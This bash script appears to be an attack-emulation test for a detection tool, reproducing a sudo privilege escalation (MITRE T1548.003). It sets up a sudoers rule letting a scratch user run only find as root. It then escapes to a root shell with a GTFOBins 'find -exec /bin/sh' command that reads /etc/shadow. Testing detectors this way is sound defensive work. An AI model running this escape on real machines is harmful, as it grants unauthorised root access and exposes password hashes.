#!/bin/bash
# vigil-emulation: attack
# technique: T1548.003 Abuse Elevation Control Mechanism: Sudo and Sudo Caching
# tactic: privilege-escalation
# what: a scratch user allowed to run only `find` as root through sudo (a test sudoers
#   entry set up first) escapes to a root shell with
#   `sudo find /etc -maxdepth 0 -exec /bin/sh -c 'id; head -1 /etc/shadow' \;`
#   (GTFOBins); the user and the entry are removed at the end.
# report: a shell spawned as root by a program run through sudo that was not a shell,
#   reading /etc/shadow.
# expect: privilege escalation|gtfobins|escalat|shell spawned by sudo|root shell|sudo shell
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need sudo setpriv

user=vigil-emul-ops
emul_user "$user"
emul_tmpdir
echo "$user ALL=(root) NOPASSWD: /usr/bin/find" >"$EMUL_DIR/rule"
emul_setup_file /etc/sudoers.d/vigil-emul-ops 440 root:root "$EMUL_DIR/rule"
sleep 1
su -s /bin/sh -c "cd /tmp && sudo -n /usr/bin/find /etc -maxdepth 0 -exec /bin/sh -c 'id; head -1 /etc/shadow | cut -c1-5' \\;" "$user"
